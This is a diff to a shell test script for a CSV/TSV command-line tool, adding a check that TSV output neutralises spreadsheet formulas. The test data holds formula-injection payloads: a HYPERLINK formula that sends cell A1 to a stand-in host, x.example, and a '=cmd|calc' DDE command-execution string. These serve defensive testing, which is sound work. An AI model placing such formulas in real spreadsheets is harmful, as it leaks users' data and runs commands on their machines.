@@ -214,6 +214,12 @@ for s, w in zip(src[1:], safe[1:]):
         else:
             assert b == a, (a, b)
 PY
+# TSV too (tab and CR inside a cell are written as \t and \r)
+"$TRADE" cat --format tsv "$data/formulas.csv" >"$tmp/safe.tsv" 2>"$tmp/err"
+printf '%s\t%s\t%s\n' "-1700000" "'=HYPERLINK(\"http://x.example/?\"&A1)" "'+1" \
+    "3.5" "'@SUM(A1:A2)" "'-2+3" "-0.25" "'\\tTAB" "'\\rCR" "12" "'-" "plain text" >"$tmp/want.tsv"
+cut -f5,8,9 "$tmp/safe.tsv" | tail -n +2 | cmp -s - "$tmp/want.tsv" && ok ||
+    bad "tsv does not neutralise formulas: $(cut -f5,8,9 "$tmp/safe.tsv" | tail -n +2 | diff "$tmp/want.tsv" - | head -4)"
 # every row-writing command neutralises too (the source column carries the text)
 sed 's/,a$/,=cmd|calc/; s/,a,/,=cmd|calc,/' "$data/good_bom_crlf.csv" >"$tmp/src_formula.csv"
 for c in "${cmds[@]}"; do
